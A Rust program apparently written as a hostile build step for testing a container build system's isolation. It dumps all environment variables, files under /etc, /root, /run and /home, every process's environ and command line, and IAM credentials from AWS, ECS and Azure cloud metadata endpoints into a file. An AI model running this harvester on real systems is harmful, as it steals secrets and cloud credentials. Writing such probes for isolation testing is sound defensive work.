//! A step of a hostile Dockerfile: writes everything it can see to the file named by its first argument. Variables, files
//! (secrets, the context, other processes' memory of their start), and what answers at the cloud's metadata addresses. Or,
//! told to `say` a file, says it and fails.

use std::fs::File;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::path::Path;
use std::time::Duration;

/// Enough for any file that somebody writes by hand.
const MOST_BYTES: u64 = 1_000_000;

fn main() {
    let to = std::env::args().nth(1).unwrap();
    if to == "say" {
        // What is in a file, on both streams, and then the step fails.
        let text = std::fs::read_to_string(std::env::args().nth(2).unwrap()).unwrap();
        print!("{text}");
        eprint!("{text}");
        std::process::exit(3);
    }
    let mut out = File::create(to).unwrap();
    for (key, value) in std::env::vars() {
        writeln!(out, "env {key}={value}").unwrap();
    }
    for root in ["/run", "/ctx", "/tmp", "/etc", "/root", "/home", "/dev/shm"] {
        show(Path::new(root), &mut out);
    }
    for process in std::fs::read_dir("/proc").unwrap().flatten() {
        let name = process.file_name().into_string().unwrap();
        if name.chars().all(|c| c.is_ascii_digit()) {
            for what in ["environ", "cmdline", "mountinfo"] {
                content(&process.path().join(what), &mut out);
            }
        }
    }
    for place in ["169.254.169.254:80", "169.254.170.2:80", "168.63.129.16:80"] {
        writeln!(out, "metadata {place}: {}", ask(place)).unwrap();
    }
}

fn show(path: &Path, out: &mut File) {
    if path.is_symlink() {
        writeln!(out, "link {}", path.display()).unwrap();
    } else if let Ok(entries) = std::fs::read_dir(path) {
        for entry in entries.flatten() {
            show(&entry.path(), out);
        }
    } else if path.is_file() {
        content(path, out);
    }
}

fn content(path: &Path, out: &mut File) {
    let mut bytes = Vec::new();
    let read = File::open(path).and_then(|file| file.take(MOST_BYTES).read_to_end(&mut bytes));
    write!(out, "file {} = ", path.display()).unwrap();
    match read {
        Ok(_) => out.write_all(&bytes).unwrap(),
        Err(error) => write!(out, "({error})").unwrap(),
    }
    writeln!(out).unwrap();
}

fn ask(place: &str) -> String {
    let address: SocketAddr = place.parse().unwrap();
    let limit = Duration::from_millis(500);
    let asked = TcpStream::connect_timeout(&address, limit).and_then(|mut stream| {
        stream.set_read_timeout(Some(limit))?;
        stream.write_all(b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\nMetadata: true\r\n\r\n")?;
        let mut answer = String::new();
        stream.read_to_string(&mut answer).map(|_| answer)
    });
    asked.unwrap_or_else(|error| error.to_string())
}
